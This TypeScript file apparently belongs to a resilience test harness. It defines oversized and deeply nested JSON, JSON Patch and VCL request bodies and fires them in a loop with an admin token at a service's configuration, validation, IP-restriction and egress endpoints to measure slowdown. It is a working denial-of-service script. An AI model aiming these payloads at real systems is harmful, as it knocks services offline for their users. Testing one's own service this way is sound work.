import type { PrepareAttack } from "./attack";

const repeat = (piece: string, bytes: number) =>
    Array.from({ length: Math.floor(bytes / (piece.length + 1)) }, () => piece).join(",");

/** Bodies that are made to cost much, as large as they are taken. */
const bodies: [method: string, path: string, body: string][] = [
    [
        "PATCH",
        "/configuration",
        `[{"op":"add","path":"/a","value":[${repeat("0", 9_000_000)}]},${repeat('{"op":"add","path":"/a/0","value":0}', 360_000)}]`,
    ],
    [
        "PATCH",
        "/configuration",
        `[{"op":"add","path":"/a","value":[${repeat("0", 38_000)}]},${Array.from({ length: 9_999 }, () => '{"op":"remove","path":"/a/0"}').join(",")}]`,
    ],
    [
        "PATCH",
        "/configuration",
        `[{"op":"add","path":"/a","value":${"[".repeat(150)}${repeat("0", 80_000)}${"]".repeat(150)}}]`,
    ],
    ["POST", "/validate", `{"files":{"varnish/a.json":"[${repeat("[]", 900_000)}]"}}`],
    ["POST", "/validate", `{"files":{"varnish/a.vcl":"sub a { ${"a ; ".repeat(200_000)} }"}}`],
    ["POST", "/ipRestrictions", `{"ip_blacklist":[${repeat('"x"', 10_000_000)}]}`],
    ["POST", "/egress", `{"origins":{${Array.from({ length: 2_400 }, (_, at) => `"o${at}":{"address":"a b"}`)}}}`],
];

/** An admin sends such bodies one after the other, as fast as they are answered. */
export const largeJson: PrepareAttack = async ({ attacker, target }) => ({
    name: "JSON that is made to cost much, one after the other",
    floorMs: 300, // parsing 1 MiB is one step, which stops the process for up to 60 ms, and a push makes several
    begin: async () => {
        const at = `${attacker.url}/api/v1/account/${target.account}/application/${target.application}/environment/Production`;
        const prepared = bodies.map(([method, path, body]) => ({ method, path, body: Buffer.from(body) }));
        let isEnded = false;
        const attack = async () => {
            for (let count = 0; !isEnded; count += 1) {
                const { method, path, body } = prepared[count % prepared.length] as (typeof prepared)[number];
                const headers = { "section-token": attacker.token as string };
                await fetch(at + path, { method, headers, body: new Uint8Array(body) })
                    .then((answer) => answer.text())
                    .catch(() => {}); // a connection that is closed in the middle of a body
            }
        };
        const attacking = attack();
        return {
            end: async () => {
                isEnded = true;
                await attacking;
            },
        };
    },
});
